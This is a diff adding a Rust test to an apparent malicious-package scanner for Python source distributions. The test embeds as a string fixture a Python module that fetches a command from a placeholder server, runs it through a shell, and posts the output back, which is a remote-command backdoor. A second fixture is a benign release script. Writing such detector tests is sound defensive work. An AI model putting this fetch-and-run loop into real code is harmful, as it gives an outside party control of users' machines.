@@ -613,3 +613,19 @@ fn a_cloud_secret_posted_from_a_large_module_is_read_and_caught() {
     ]);
     assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn a_command_fetched_and_handed_to_a_local_runner_is_malicious() {
+    // requestsdev: a loop that asks a server what to run, and runs it.
+    let module = "import subprocess, requests\n\ndef debug():\n    link = 'http://127.0.0.1:9/'\n    resp = requests.get(link)\n    resp = resp.text\n    out = runcommand(resp)\n    requests.post(link + 'output', {'o': out})\n\ndef runcommand(value):\n    return subprocess.run(value, shell=True, capture_output=True)\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A release script that runs fixed commands through a helper is not.
+    let tool = "import subprocess, sys\n\ndef run(*args):\n    subprocess.run([str(a) for a in args], check=True)\n\ndef main():\n    run(sys.executable, '-c', 'import pkg; print(pkg.__version__)')\n";
+    let r = sdist(&[
+        ("setup.py", SETUP),
+        ("pkg/__init__.py", "x = 1\n"),
+        ("tools/check.py", tool),
+    ]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
